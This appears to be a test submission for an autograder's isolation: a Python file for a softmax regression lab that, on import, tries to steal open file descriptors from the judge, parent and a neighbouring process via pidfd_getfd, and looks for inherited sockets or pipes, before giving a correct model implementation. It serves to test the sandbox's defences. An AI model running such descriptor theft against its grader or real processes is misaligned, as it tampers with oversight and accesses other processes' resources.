"""Copies open descriptors out of the judge and looks for inherited ones.

Lab: softmax_regression
Honest: full marks, but for any rule on added imports: the code beside the attack is right.
Expected: full marks, attack seen stopped: no printed line starts with the word for success.
"""

import ctypes
import os
import stat

import torch
import torch.nn as nn


def attempt(what, action):
    try:
        proof = action()
    except BaseException as error:
        print(f"STOPPED {what}: {type(error).__name__}", flush=True)
    else:
        print(f"REACHED {what}" if proof else f"STOPPED {what}: NoEffect", flush=True)


LIBC = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD = 438


def steal(pid):
    handle = os.pidfd_open(pid)
    for number in range(32):
        if LIBC.syscall(PIDFD_GETFD, handle, number, 0) >= 0:
            return True
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def inherited():
    for number in range(4, 128):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            return True
    return False


attempt("the judge's descriptors", lambda: steal(int("@JUDGE_PID@")))
attempt("the zygote's descriptors", lambda: steal(os.getppid()))
attempt("a neighbour's descriptors", lambda: steal(int("@DECOY_PID@")))
attempt("an inherited descriptor", inherited)


def softmax(X):
    powers = torch.exp(X - X.amax(dim=1, keepdim=True))
    return powers / powers.sum(dim=1, keepdim=True)


class SoftmaxRegression(nn.Module):
    def __init__(self, num_inputs, num_outputs):
        super().__init__()
        self.linear = nn.Linear(num_inputs, num_outputs)
        self.lr = 0.1

    def forward(self, X):
        return softmax(self.linear(X))

    def manual_backward(self, X, y, y_hat):
        with torch.no_grad():
            error = y_hat.clone()
            error[torch.arange(len(y)), y] -= 1
            error /= len(y)
            self.linear.weight -= self.lr * error.T @ X
            self.linear.bias -= self.lr * error.sum(dim=0)
